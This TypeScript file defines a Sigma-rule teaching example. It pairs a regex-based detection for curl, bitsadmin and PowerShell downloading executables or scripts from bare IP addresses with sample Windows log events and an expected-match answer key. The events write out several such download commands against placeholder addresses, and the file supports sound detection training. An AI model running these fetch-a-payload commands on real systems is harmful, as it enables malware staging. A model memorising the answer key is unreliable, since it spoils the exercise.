import type { Example } from '../example';

const rule = String.raw`title: Program Fetched From A Bare Address
id: 7eda6937-d0ad-4719-9023-afe0923e6eed
status: experimental
description: Detects a command line that fetches a program or script from an address given in numbers.
references:
    - https://attack.mitre.org/techniques/T1105/
author: Sigma Playground
date: 2026-11-24
tags:
    - attack.command-and-control
    - attack.t1105
logsource:
    category: process_creation
    product: windows
detection:
    selection_img:
        Image|endswith:
            - '\curl.exe'
            - '\bitsadmin.exe'
            - '\powershell.exe'
    selection_url:
        CommandLine|re: 'https?://(?<address>\d{1,3}(?:\.\d{1,3}){3})(?::(?<port>\d+))?/(?:\S*/)?(?<file>[\w-]+\.(?:exe|dll|ps1))(?:\s|$)'
    condition: all of selection_*
falsepositives:
    - Appliances that are known by their address only
level: medium
`;

const events = String.raw`{
  "EventID": 1,
  "Channel": "Microsoft-Windows-Sysmon/Operational",
  "Image": "C:\\Windows\\System32\\curl.exe",
  "CommandLine": "curl -o C:\\Users\\Public\\tool.exe http://192.0.2.44:8080/files/tool.exe",
  "User": "LAB\\ana",
  "ParentImage": "C:\\Windows\\System32\\cmd.exe"
}
{
  "EventID": 4688,
  "Channel": "Security",
  "SubjectUserName": "ben",
  "SubjectDomainName": "LAB",
  "NewProcessName": "C:\\Windows\\System32\\bitsadmin.exe",
  "CommandLine": "bitsadmin /transfer j https://198.51.100.9/a.dll %TEMP%\\a.dll",
  "ParentProcessName": "C:\\Windows\\explorer.exe"
}
{
  "EventID": 1,
  "Channel": "Microsoft-Windows-Sysmon/Operational",
  "Image": "C:\\Windows\\System32\\curl.exe",
  "CommandLine": "curl -O https://downloads.lab.example/tool.exe",
  "User": "LAB\\ana",
  "ParentImage": "C:\\Windows\\System32\\cmd.exe"
}
{
  "EventID": 4688,
  "Channel": "Security",
  "SubjectUserName": "ana",
  "SubjectDomainName": "LAB",
  "NewProcessName": "C:\\Windows\\System32\\curl.exe",
  "CommandLine": "curl -O http://192.0.2.44/TOOL.EXE",
  "ParentProcessName": "C:\\Windows\\System32\\cmd.exe"
}
{
  "EventID": 1,
  "Channel": "Microsoft-Windows-Sysmon/Operational",
  "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
  "CommandLine": "powershell iwr http://192.0.2.44/one.ps1 -OutFile 1.ps1; iwr http://192.0.2.44/two.ps1 -OutFile 2.ps1",
  "User": "LAB\\ben",
  "ParentImage": "C:\\Program Files\\LabOffice\\writer.exe"
}
{
  "EventID": 4688,
  "Channel": "Security",
  "SubjectUserName": "ben",
  "SubjectDomainName": "LAB",
  "NewProcessName": "C:\\Windows\\System32\\curl.exe",
  "CommandLine": "curl http://192.0.2.44/tool.exe.sha256",
  "ParentProcessName": "C:\\Windows\\System32\\cmd.exe"
}
{
  "EventID": 1,
  "Channel": "Microsoft-Windows-Sysmon/Operational",
  "Image": "C:\\Windows\\System32\\curl.exe",
  "CommandLine": "curl http://192.0.2.44/readme.txt",
  "User": "LAB\\ana",
  "ParentImage": "C:\\Windows\\System32\\cmd.exe"
}
`;

export const downloadRegex: Example = {
  title: 'Download from a bare address',
  teaches: 'How a regular expression marks its groups, and why case matters in it',
  topic: 'modifiers',
  at: '|re',
  expected: 'mm--m--',
  rule,
  events,
};
